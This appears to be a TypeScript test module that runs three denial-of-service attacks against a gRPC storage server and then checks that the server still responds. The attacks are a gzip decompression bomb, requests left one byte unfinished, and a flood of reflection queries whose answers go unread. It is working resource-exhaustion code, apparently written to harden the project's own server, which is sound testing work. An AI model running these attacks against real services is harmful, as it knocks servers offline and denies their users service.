// Strangers without a token at the gRPC port who send little, or nothing to its end, and make the server hold much.
import { connect, type ClientHttp2Session, type ClientHttp2Stream } from "node:http2";
import { setTimeout as sleep } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import type { Attack, Target } from "./attack.ts";

const WRITE = "/concord.storage.v1.RowsService/Write";
const REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
const MIB = 1024 * 1024;
/** MB. An HTTP/2 client of Node that has more to send ends its own calls when their answers come; 10 by default. */
export const SESSION_MEMORY_MAX = 4_000;
/** How long the connection is held while the services are judged. */
const HELD_MS = 3_000;

export function request(session: ClientHttp2Session, path: string, headers: object = {}): ClientHttp2Stream {
  const stream = session.request({ ":method": "POST", ":path": path, "content-type": "application/grpc", te: "trailers", ...headers });
  return stream.on("error", () => undefined).resume();
}

export function framed(bytes: Uint8Array, isCompressed = false): Buffer {
  const prefix = Buffer.alloc(5);
  prefix[0] = isCompressed ? 1 : 0;
  prefix.writeUInt32BE(bytes.length, 1);
  return Buffer.concat([prefix, bytes]);
}

async function attack(target: Target, settings: object, send: (session: ClientHttp2Session) => void): Promise<void> {
  const session = connect(`http://${target.address}`, { settings, maxSessionMemory: SESSION_MEMORY_MAX });
  session.on("error", () => undefined);
  try {
    send(session);
    await sleep(HELD_MS);
    await target.serves("while the strangers are connected");
  } finally {
    session.destroy();
  }
  await target.serves("after the strangers have gone");
}

export const inflatedRequests: Attack = {
  name: "inflated-requests",
  symptom: "200 calls of 16 KiB that inflate to 15.9 MiB each took 4 465 MiB of resident memory, for good",
  isShort: true,
  run: (target) =>
    attack(target, {}, (session) => {
      const bytes = framed(gzipSync(Buffer.alloc(15.9 * MIB)), true);
      for (let call = 0; call < 200; call += 1) request(session, WRITE, { "grpc-encoding": "gzip" }).end(bytes);
    }),
};

export const unfinishedRequests: Attack = {
  name: "unfinished-requests",
  symptom: "60 calls with all but the last byte of 15.9 MiB took 1 128 MiB of resident memory, for good",
  isShort: true,
  run: (target) =>
    attack(target, {}, (session) => {
      const bytes = framed(Buffer.alloc(15.9 * MIB)).subarray(0, -1);
      for (let call = 0; call < 60; call += 1) request(session, WRITE).write(bytes);
    }),
};

export const unreadReflection: Attack = {
  name: "unread-reflection",
  symptom: "12 000 questions of 37 bytes whose answers were not read took 602 MiB of resident memory, for good",
  isShort: true,
  run: (target) =>
    attack(target, { initialWindowSize: 0 }, (session) => {
      const symbol = Buffer.from("concord.storage.v1.RowsService");
      const question = framed(Buffer.concat([Buffer.from([0x22, symbol.length]), symbol]));
      request(session, REFLECTION).write(Buffer.concat(Array.from({ length: 12_000 }, () => question)));
    }),
};
